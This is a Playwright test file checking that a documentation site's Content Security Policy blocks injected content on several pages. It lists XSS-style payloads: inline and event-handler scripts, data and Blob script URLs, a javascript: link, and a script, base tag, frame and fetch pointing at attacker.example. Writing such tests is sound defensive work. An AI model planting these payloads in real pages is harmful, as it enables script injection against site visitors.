/** Every kind of page works under its Content Security Policy, and what somebody puts into it does not run. */
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { createPost, example } from '../live-example';
import { article, expect, hydrated, missingPage, test } from '../site';
import { watchedPage } from '../watched-page';

declare global {
  interface Window {
    attacked?: unknown;
  }
}

/** One of each kind. */
const kinds = [
  '/',
  article,
  '/csrf',
  '/claims',
  '/claims/actions-are-a-public-surface',
  '/decisions',
  '/evidence',
  '/evidence/call-from-script',
  '/examples',
  '/examples/create-post',
  '/sources/raj-next14',
  '/glossary',
  '/advisories',
  '/security-advisories',
  '/conformance',
  '/next-release',
  '/playground',
  '/what-the-sandbox-is',
  '/embed/create-post',
  '/embed/decision-table',
  missingPage,
];

test('each kind of page comes alive without a violation', async ({ browser, site: { url } }) => {
  const { page, violations, errors, close } = await watchedPage(browser);
  for (const path of kinds) {
    await test.step(path, async () => {
      await page.goto(url + path);
      await hydrated(page);
      await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
      expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').count()).toBe(1);
    });
  }
  await page.waitForLoadState('networkidle');
  expect(violations).toEqual([]);
  // A missing page answers with 404, which the console tells.
  expect(errors.filter((text) => !text.includes('404'))).toEqual([]);
  await close();
});

test('search, theme, the advisor and links between pages work', async ({ browser, site: { url } }) => {
  const { page, violations, errors, close } = await watchedPage(browser);
  await page.goto(url + article);
  await hydrated(page);
  await page.getByRole('searchbox').or(page.getByPlaceholder('Search')).first().click();
  await page.keyboard.type('redirect');
  await expect(page.getByRole('listbox').getByRole('option').first()).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByTitle('Change theme').filter({ visible: true }).first().selectOption('Dark');
  await expect(page.locator('html')).toHaveClass(/dark/);
  await page.getByRole('link', { name: 'Action or Route' }).first().click();
  await expect(page).toHaveURL(`${url}/`);
  expect(violations).toEqual([]);
  expect(errors).toEqual([]);
  await close();
});

test('an example runs, its editor too, and in a page of another site', async ({ browser, site: { url } }) => {
  const { page, violations, errors, close } = await watchedPage(browser);
  await page.goto(`${url}/embed/create-post`);
  const live = example(page, 'action');
  await expect(live.section).toHaveAttribute('data-status', 'ready');
  await createPost(live.app, 'Under a policy');
  await expect(live.app.getByText('Under a policy')).toBeVisible();
  await expect(page.locator('.cm-content').first()).toBeVisible();
  expect(violations).toEqual([]);

  const slides = createServer((_, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(
      `<!doctype html><title>Slides</title><iframe width="1200" height="900" src="${url}/embed/create-post"></iframe><iframe src="${url}/playground"></iframe>`,
    );
  });
  await new Promise<void>((listening) => slides.listen(0, '127.0.0.1', listening));
  const address = slides.address();
  // Another site: 127.0.0.1 is not localhost.
  await page.goto(`http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}/`);
  const embed = page.frameLocator('iframe').first();
  const pane = embed.locator('section[data-variant="action"]');
  // In view, it starts by itself.
  await expect(pane).toHaveAttribute('data-status', 'ready');
  await expect(
    pane.frameLocator('iframe[title*="Preview"]').frameLocator('iframe.shown').getByRole('button').first(),
  ).toBeVisible();
  // Any other page is not for frames of others: there, a press on Run could be had by a trick.
  await expect(page.frameLocator('iframe').nth(1).locator('[data-example="playground"]')).toHaveCount(0);
  expect(violations.filter((text) => !text.includes('frame-ancestors'))).toEqual([]);
  expect(errors.filter((text) => !text.includes('frame-ancestors'))).toEqual([]);
  slides.closeAllConnections();
  await new Promise((closed) => slides.close(closed));
  await close();
});

/** What somebody might get into a page; none of it may run. */
const injections: Record<string, (page: Page) => Promise<unknown>> = {
  'an inline script': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = 1';
      document.body.append(script);
    }),
  'an event handler': (page) =>
    page.evaluate(() => {
      const image = document.createElement('div');
      image.innerHTML = '<img src="data:," onerror="window.attacked = 1">';
      document.body.append(image);
    }),
  'a script of another host': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/a.js';
      document.body.append(script);
    }),
  'a script as data': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.attacked=1';
      document.body.append(script);
    }),
  'a script as a Blob': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.src = URL.createObjectURL(new Blob(['window.attacked = 1']));
      document.body.append(script);
    }),
  'a link that is code': (page) =>
    page.evaluate(() => {
      const link = document.createElement('a');
      link.href = 'javascript:window.attacked=1';
      document.body.append(link);
      link.click();
    }),
  'another base': (page) =>
    page.evaluate(() => {
      const base = document.createElement('base');
      base.href = 'https://attacker.example/';
      document.head.append(base);
    }),
  'an object': (page) =>
    page.evaluate(() => {
      const element = document.createElement('object');
      element.data = 'data:text/html,<script>parent.attacked=1</script>';
      document.body.append(element);
    }),
  'a frame of another host': (page) =>
    page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
    }),
  'a request to another host': (page) =>
    page.evaluate(() => fetch('https://attacker.example/').catch(() => undefined)),
};

for (const path of ['/csrf', '/playground', '/embed/create-post']) {
  test(`on ${path} nothing that is put into the page runs`, async ({ browser, site: { url } }) => {
    const { page, violations, close } = await watchedPage(browser);
    await page.goto(url + path);
    await hydrated(page);
    for (const [name, inject] of Object.entries(injections)) {
      const before = violations.length;
      await inject(page);
      await expect.poll(() => violations.length, { message: `${name} is refused` }).toBeGreaterThan(before);
    }
    expect(await page.evaluate(() => window.attacked)).toBeUndefined();
    expect(await page.evaluate(() => document.baseURI)).toBe(url + path);
    await close();
  });
}
